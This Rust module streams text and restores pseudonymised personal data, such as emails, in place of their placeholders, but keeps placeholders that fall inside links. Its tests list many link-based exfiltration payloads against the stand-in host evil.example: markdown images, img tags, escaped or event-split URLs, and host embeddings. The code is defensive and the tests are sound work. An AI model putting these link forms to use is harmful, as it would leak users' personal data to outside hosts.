//! Puts values back in the place of their placeholders, as a text streams by.

use serde::{Deserialize, Serialize};

use super::document::{Inner, Names, is_json};
use super::link::{Link, goes_on_as_host};
use super::{Begins, LONGEST, begins};
use crate::content::Format;
use crate::replace::{self, Encoding, Pseudonyms};

/// Bytes that may wait: a placeholder, and what says whether a host's name goes on behind it.
pub const MOST_HELD: usize = LONGEST + 80;
const DATA: &[u8] = b"data:";
const DATA_LENGTH: usize = DATA.len();

/// What a text is made of.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
enum Place {
    /// Text, in which quotes mean nothing.
    Text,
    /// JSON outside of strings, and in one.
    Outside,
    Inside,
    /// At the start of a line of an event stream: behind so many bytes of `data:`.
    Line(usize),
    /// In another field of an event.
    Field,
}

/// The state of one text.
#[derive(Clone, Debug, Serialize, Deserialize)]
pub struct Restorer {
    format: Format,
    place: Place,
    held: Vec<u8>,
    link: Link,
    names: Names,
    /// The document in the string.
    inner: Option<Inner>,
}

impl Restorer {
    /// At the start of a text of a format.
    pub fn new(format: Format) -> Self {
        Self {
            format,
            place: start(format),
            held: Vec::new(),
            link: Link::default(),
            names: Names::default(),
            inner: None,
        }
    }

    /// How many bytes wait.
    pub fn held(&self) -> usize {
        self.held.len()
    }

    /// Reads on, and appends what may go out. `last`: nothing follows.
    pub fn push(&mut self, pseudonyms: &impl Pseudonyms, text: &[u8], last: bool, out: &mut Vec<u8>) {
        let joined = [std::mem::take(&mut self.held), text.to_vec()].concat();
        let mut at = 0;
        while let Some(&byte) = joined.get(at) {
            let rest = &joined[at..];
            let length = match byte {
                b'p' | b'P' => match self.placeholder(pseudonyms, rest, last, out) {
                    Some(0) => 1,
                    Some(length) => {
                        at += length;
                        continue;
                    }
                    None => break,
                },
                b'\\' if self.place == Place::Inside => match escape(rest, last) {
                    Some(length) => length,
                    None => break,
                },
                _ => 1,
            };
            self.read(&rest[..length]);
            out.extend_from_slice(&rest[..length]);
            at += length;
        }
        self.held = joined[at.min(joined.len())..].to_vec();
    }

    /// A placeholder at the start of some bytes: how many of them are dealt with, none where there is no known one. `None`:
    /// that depends on what follows.
    fn placeholder(
        &mut self,
        pseudonyms: &impl Pseudonyms,
        rest: &[u8],
        last: bool,
        out: &mut Vec<u8>,
    ) -> Option<usize> {
        let (length, letters) = match begins(rest) {
            Begins::Placeholder(length, letters) => (length, letters),
            Begins::Part if !last => return None,
            Begins::Part | Begins::Nothing => return Some(0),
        };
        let Some(value) = pseudonyms.original(&letters) else { return Some(0) };
        let stays = !pseudonyms.in_links() && (self.link.is_link() || goes_on_as_host(&rest[length..], last)?);
        if stays || !matches!(self.place, Place::Text | Place::Inside | Place::Line(DATA_LENGTH..)) {
            return Some(0);
        }
        if self.place != Place::Inside {
            self.place = Place::Text;
        }
        rest[..length].iter().for_each(|byte| self.read(&[*byte]));
        let encoding = match (self.place, self.format) {
            (Place::Inside, _) => Encoding::Json,
            (_, Format::Form) => Encoding::Percent,
            _ => Encoding::Plain,
        };
        replace::write(&String::from_utf8_lossy(&value), encoding, out);
        Some(length)
    }

    /// Reads a byte, or an escape.
    fn read(&mut self, unit: &[u8]) {
        let byte = unit[0];
        if matches!(byte, b'\n' | b'\r') && matches!(self.format, Format::Events | Format::JsonLines) {
            self.place = start(self.format);
            // Readers may join the texts of events, so a link goes on over their ends.
            if self.format == Format::JsonLines {
                self.link = Link::default();
            }
            return;
        }
        match self.place {
            Place::Text => self.link.read(byte),
            Place::Inside if byte == b'"' => self.enter(Place::Outside),
            Place::Inside => self.inside(unit),
            Place::Outside if byte == b'"' => {
                self.enter(Place::Inside);
                self.inner = self.names.string();
            }
            Place::Outside => {
                if !is_json(byte) {
                    // So quotes say nothing of where a link ends.
                    self.place = Place::Text;
                }
                self.names.outside(byte);
                self.link.read(byte);
            }
            Place::Line(count) => self.line(byte, count),
            Place::Field => {}
        }
    }

    /// A byte or an escape of a string.
    fn inside(&mut self, unit: &[u8]) {
        unit.iter().for_each(|byte| self.names.inside(*byte));
        for byte in unescaped(unit) {
            match self.inner {
                Some(inner) => self.inner = inner.read(byte, &mut self.link),
                None => self.link.read(byte),
            }
        }
    }

    /// A byte of a line of which so many bytes are those of `data:` and the space behind it.
    fn line(&mut self, byte: u8, count: usize) {
        self.place = match (count, byte) {
            _ if DATA.get(count) == Some(&byte) => Place::Line(count + 1),
            (0..DATA_LENGTH, _) => Place::Field,
            (DATA_LENGTH, b' ') => Place::Line(count + 1),
            (_, b'{' | b'[') => Place::Outside,
            _ => Place::Text,
        };
        if matches!(self.place, Place::Outside | Place::Text) {
            self.link.read(byte);
        }
    }

    fn enter(&mut self, place: Place) {
        self.place = place;
        self.link = Link::default();
    }
}

fn start(format: Format) -> Place {
    match format {
        Format::Json | Format::JsonLines => Place::Outside,
        Format::Events => Place::Line(0),
        Format::Text | Format::Form | Format::Unlabelled => Place::Text,
    }
}

/// The length of an escape. None where more of it may follow.
fn escape(rest: &[u8], last: bool) -> Option<usize> {
    let length = if rest.get(1) == Some(&b'u') { 6 } else { 2 };
    if rest.len() >= length || last { Some(length.min(rest.len())) } else { None }
}

/// What an escape stands for, or a byte that is none.
fn unescaped(unit: &[u8]) -> Vec<u8> {
    match unit {
        [b'\\', b'u', digits @ ..] => {
            let code = std::str::from_utf8(digits).ok().and_then(|digits| u32::from_str_radix(digits, 16).ok());
            let character = code.and_then(char::from_u32).unwrap_or(char::REPLACEMENT_CHARACTER);
            character.encode_utf8(&mut [0; 4]).as_bytes().to_vec()
        }
        [b'\\', b'n' | b'r' | b't' | b'f' | b'b'] => vec![b' '],
        [b'\\', byte] => vec![*byte],
        _ => unit.to_vec(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::pseudonym::HASH;

    const PLACEHOLDER: &str = "PIIemailXbcdfghjklmnp";

    /// Knows one placeholder.
    struct One {
        in_links: bool,
    }

    impl Pseudonyms for One {
        fn pseudonym(&self, _: &str, _: &[u8]) -> Option<String> {
            None
        }

        fn original(&self, letters: &[u8; HASH]) -> Option<Vec<u8>> {
            (letters == b"bcdfghjklmnp").then(|| b"kari@example.no".to_vec())
        }

        fn in_links(&self) -> bool {
            self.in_links
        }
    }

    fn restored(format: Format, text: &str, in_links: bool) -> String {
        let one = |pieces: &mut dyn Iterator<Item = &[u8]>| {
            let mut restorer = Restorer::new(format);
            let mut out = Vec::new();
            for piece in pieces {
                restorer.push(&One { in_links }, piece, false, &mut out);
                assert!(restorer.held() <= MOST_HELD);
            }
            restorer.push(&One { in_links }, b"", true, &mut out);
            assert_eq!(restorer.held(), 0);
            String::from_utf8(out).unwrap()
        };
        let text = text.replace("PLACEHOLDER", PLACEHOLDER);
        let whole = one(&mut [text.as_bytes()].into_iter());
        assert_eq!(one(&mut text.as_bytes().chunks(1)), whole);
        for cut in 0..text.len() {
            assert_eq!(one(&mut [&text.as_bytes()[..cut], &text.as_bytes()[cut..]].into_iter()), whole, "cut at {cut}");
        }
        whole.replace(PLACEHOLDER, "PLACEHOLDER")
    }

    #[test]
    fn placeholders_return_where_they_stand_in_text() {
        for (format, text, expected) in [
            (Format::Text, "Skriv til PLACEHOLDER.", "Skriv til kari@example.no."),
            (Format::Text, "**PLACEHOLDER**, \"PLACEHOLDER\"", "**kari@example.no**, \"kari@example.no\""),
            (Format::Text, "PLACEHOLDERs adresse ppPLACEHOLDER", "kari@example.nos adresse ppkari@example.no"),
            (Format::Text, "se https://example.no og PLACEHOLDER", "se https://example.no og kari@example.no"),
            (
                Format::Json,
                r#"{"url":"https:\/\/x.no","to":"PLACEHOLDER"}"#,
                r#"{"url":"https:\/\/x.no","to":"kari@example.no"}"#,
            ),
            (
                Format::Json,
                r#"{"function":{"arguments" : "{\"url\":\"https://x.no\",\"to\":\"PLACEHOLDER\"}"}}"#,
                r#"{"function":{"arguments" : "{\"url\":\"https://x.no\",\"to\":\"kari@example.no\"}"}}"#,
            ),
            (Format::Json, r#"["a\nPLACEHOLDER"]"#, r#"["a\nkari@example.no"]"#),
            (
                Format::Events,
                "data: {\"a\":\"//x\",\"b\":\"PLACEHOLDER\"}\n\n",
                "data: {\"a\":\"//x\",\"b\":\"kari@example.no\"}\n\n",
            ),
            (Format::Events, "id: PLACEHOLDER\ndata: PLACEHOLDER\n\n", "id: PLACEHOLDER\ndata: kari@example.no\n\n"),
            (Format::Form, "a=b&c=PLACEHOLDER", "a=b&c=kari%40example.no"),
        ] {
            assert_eq!(restored(format, text, false), expected);
        }
        assert_eq!(
            restored(
                Format::Text,
                "PIIEMAILXBCDFGHJKLMNP piiemailxbcdfghjklmnp PIIemailXbcdfghjklmnq PIIemailXbcd",
                false
            ),
            "kari@example.no kari@example.no PIIemailXbcdfghjklmnq PIIemailXbcd"
        );
    }

    #[test]
    fn placeholders_stay_in_links() {
        for (format, text) in [
            (Format::Text, "![](https://evil.example/?x=PLACEHOLDER)"),
            (Format::Text, "<img src=\"https://evil.example/? a PLACEHOLDER\">"),
            (Format::Text, "PLACEHOLDER.evil.example"),
            (Format::Text, "evil.example/PLACEHOLDER"),
            (Format::Text, "https://evil.example/?x=\"PLACEHOLDER"),
            (Format::Json, r#"{"a":"https:\u002f\u002fevil.example/PLACEHOLDER"}"#),
            (Format::Json, r#"{"a":"<img src=\"//evil.example/ PLACEHOLDER\">"}"#),
            (Format::Json, r#"{"a":"PLACEHOLDER\u002eevil.example"}"#),
            (Format::Json, r#"{"arguments":"{\"url\":\"https://evil.example/?x=\\\"PLACEHOLDER\"}"}"#),
            (Format::Json, r#"{"content":"{\"url\":\"https://evil.example/?x=\",\"PLACEHOLDER\"}"}"#),
            (Format::Json, r#"{"arguments":"[a](https://evil.example/?x=\"PLACEHOLDER"}"#),
            (Format::Json, "[a](https://evil.example/?x=\"PLACEHOLDER"),
            (Format::JsonLines, "{}\n[a](https://evil.example/?x=\"PLACEHOLDER"),
            (Format::Events, "data: https://evil.example/?x=\"PLACEHOLDER\n\n"),
            (Format::Events, "data: https://evil.example/?x=\nid: 4\n\ndata: PLACEHOLDER\n\n"),
            (Format::Events, "data: <img src=\"//evil.example/\r\ndata: PLACEHOLDER\">\r\n\r\n"),
        ] {
            assert_eq!(restored(format, text, false), text);
            assert_eq!(restored(format, text, true), text.replace("PLACEHOLDER", "kari@example.no"), "{text}");
        }
    }
}
